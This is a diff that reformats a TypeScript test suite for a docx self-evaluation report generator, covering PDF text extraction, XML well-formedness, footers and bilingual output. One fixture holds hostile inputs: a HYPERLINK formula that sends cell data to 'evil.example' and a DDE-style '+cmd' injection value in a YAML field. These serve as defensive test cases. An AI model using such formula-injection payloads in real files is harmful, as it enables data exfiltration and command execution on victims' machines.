@@ -19,13 +19,17 @@ const DOCX_OPTS = { baseDir: OPTS.baseDir, toolVersion: OPTS.toolVersion };
 
 /** The PDF's text, one string per page (pdftotext's form feeds), in reading order. */
 function pdfPages(pdf: string): string[] {
-  return execFileSync('pdftotext', ['-layout', pdf, '-'], { encoding: 'utf8' }).split('\f').filter((p, i, all) => i < all.length - 1 || p.trim());
+  return execFileSync('pdftotext', ['-layout', pdf, '-'], { encoding: 'utf8' })
+    .split('\f')
+    .filter((p, i, all) => i < all.length - 1 || p.trim());
 }
 
 /** Every XML part of the document, parsed strictly: a character XML cannot hold makes Word refuse the file. */
 function assertWellFormed(docx: Uint8Array): Record<string, string> {
   // eslint-disable-next-line @typescript-eslint/no-require-imports -- sax has no bundled types
-  const sax = require('sax') as { parser(strict: boolean, opts: object): { onerror: (e: Error) => void; write(s: string): { close(): void } } };
+  const sax = require('sax') as {
+    parser(strict: boolean, opts: object): { onerror: (e: Error) => void; write(s: string): { close(): void } };
+  };
   const parts: Record<string, string> = {};
   for (const [name, data] of Object.entries(unzipSync(docx))) {
     if (!/\.(xml|rels)$/.test(name)) continue;
@@ -37,7 +41,9 @@ function assertWellFormed(docx: Uint8Array): Record<string, string> {
       assert.ok(code === 9 || code === 10 || code === 13 || (code >= 0x20 && code !== 0xfffe && code !== 0xffff), `${name}: ${m[0]}`);
     }
     const parser = sax.parser(true, {});
-    parser.onerror = (e) => { throw new Error(`${name}: ${e.message}`); };
+    parser.onerror = (e) => {
+      throw new Error(`${name}: ${e.message}`);
+    };
     parser.write(xml).close();
     parts[name] = xml;
   }
@@ -45,7 +51,11 @@ function assertWellFormed(docx: Uint8Array): Record<string, string> {
 }
 
 /** A one-line pattern that tolerates pdftotext's layout spaces. */
-const spaced = (s: string) => s.split('').map((c) => c.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('\\s*');
+const spaced = (s: string) =>
+  s
+    .split('')
+    .map((c) => c.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
+    .join('\\s*');
 
 describe('docx self-evaluation report (自评报告) in LibreOffice Writer', function () {
   this.timeout(600_000);
@@ -59,7 +69,9 @@ describe('docx self-evaluation report (自评报告) in LibreOffice Writer', fun
     }
     dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ep-docx-'));
   });
-  after(() => { if (dir) fs.rmSync(dir, { recursive: true, force: true }); });
+  after(() => {
+    if (dir) fs.rmSync(dir, { recursive: true, force: true });
+  });
 
   it('shows the organisation, score, stars and band, the contents and a page number in each footer (zh-CN and en)', async () => {
     const files: string[] = [];
@@ -92,11 +104,18 @@ describe('docx self-evaluation report (自评报告) in LibreOffice Writer', fun
       assert.match(pages[1], new RegExp(`^\\s*${zh ? '评分概要' : 'Score summary'}\\.{5,}`, 'm'));
       assert.match(pages[1], new RegExp(`^\\s*${zh ? '附录 证据索引' : 'Appendix: evidence index'}\\.{5,}`, 'm'));
       // Every page's footer: the page number of the page count.
-      pages.forEach((p, i) => assert.match(p, new RegExp(zh ? `第 ${i + 1} 页，共 ${pages.length} 页` : `Page ${i + 1} of ${pages.length}`), `footer of page ${i + 1}`));
+      pages.forEach((p, i) =>
+        assert.match(
+          p,
+          new RegExp(zh ? `第 ${i + 1} 页，共 ${pages.length} 页` : `Page ${i + 1} of ${pages.length}`),
+          `footer of page ${i + 1}`,
+        ),
+      );
       // Summary and sections.
       assert.match(text, new RegExp(`${zh ? '得分：' : 'Score: '}${score}\\s+★★★☆☆\\s+${band}`));
       assert.match(text, new RegExp(zh ? '暂定分值' : 'Provisional weights'));
-      for (const s of result.score!.sections) assert.match(text, new RegExp(`^${s.id} .*\\s${s.applicable}\\s+${s.earned}\\s+[\\d.]+%$`, 'm'), `section ${s.id}`);
+      for (const s of result.score!.sections)
+        assert.match(text, new RegExp(`^${s.id} .*\\s${s.applicable}\\s+${s.earned}\\s+[\\d.]+%$`, 'm'), `section ${s.id}`);
       // Per indicator: evidence with dates, the exclusion and its reason, a gap with its plan.
       assert.match(text, /2026-06-28/);
       assert.match(text, new RegExp(zh ? '删减理由：' : 'Excluded because: '));
@@ -138,9 +157,10 @@ describe('docx self-evaluation report (自评报告) in LibreOffice Writer', fun
     const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
     const huge = '很长的标题'.repeat(40_000);
     const fs2 = memFs({
-      '/ws/p/evidence-pack.yaml': `pack: 1\nstandard: ./std.yaml\norganization: {name: "Hostile \\x01\\x08\\x0B\\uD800 Co <&> ]]>"}\nassessment: {date: 2026-10-15}\n`
-        + `special_deductions:\n  - {id: "SD-\\x02", reason: "+cmd|' /C calc'!A0 \\uDC00", rectified: false}\n`
-        + `special_bonus: {reason: "@SUM(1,2)", basis: "${huge.slice(0, 5000)}"}\n`,
+      '/ws/p/evidence-pack.yaml':
+        `pack: 1\nstandard: ./std.yaml\norganization: {name: "Hostile \\x01\\x08\\x0B\\uD800 Co <&> ]]>"}\nassessment: {date: 2026-10-15}\n` +
+        `special_deductions:\n  - {id: "SD-\\x02", reason: "+cmd|' /C calc'!A0 \\uDC00", rectified: false}\n` +
+        `special_bonus: {reason: "@SUM(1,2)", basis: "${huge.slice(0, 5000)}"}\n`,
       '/ws/p/std.yaml': EDGE_STANDARD,
       '/ws/p/a.pdf': '%PDF',
       '/ws/p/e.evidence.yaml': `clauses:
@@ -199,7 +219,11 @@ describe('docx self-evaluation report (without LibreOffice)', () => {
     const doc = parts['word/document.xml'];
     for (const h of ['Heading1', 'Heading2', 'Heading3']) {
       assert.match(doc, new RegExp(`<w:pStyle w:val="${h}"/>`), h);
-      assert.match(parts['word/styles.xml'], new RegExp(`<w:style w:type="paragraph" w:styleId="${h}">[\\s\\S]*?<w:outlineLvl w:val="${Number(h.slice(-1)) - 1}"/>`), `${h} has its outline level`);
+      assert.match(
+        parts['word/styles.xml'],
+        new RegExp(`<w:style w:type="paragraph" w:styleId="${h}">[\\s\\S]*?<w:outlineLvl w:val="${Number(h.slice(-1)) - 1}"/>`),
+        `${h} has its outline level`,
+      );
     }
     assert.match(doc, /<w:instrText[^>]*>TOC [^<]*\\o &quot;1-2&quot;/);
     const footer = Object.entries(parts).find(([n]) => /^word\/footer\d*\.xml$/.test(n))![1];
@@ -235,7 +259,7 @@ describe('docx self-evaluation report (without LibreOffice)', () => {
     assert.match(doc, /Word fills in the page numbers when it opens the document/);
   });
 
-  it('says in the user\'s language when the output folder is missing', async () => {
+  it("says in the user's language when the output folder is missing", async () => {
     const missing = path.join(os.tmpdir(), 'ep-no-such-folder', 'x', 'report.docx');
     let run = await runCli(['report', 'examples/demo-pack', '--out', missing, '--lang', 'en']);
     assert.equal(run.code, 2);
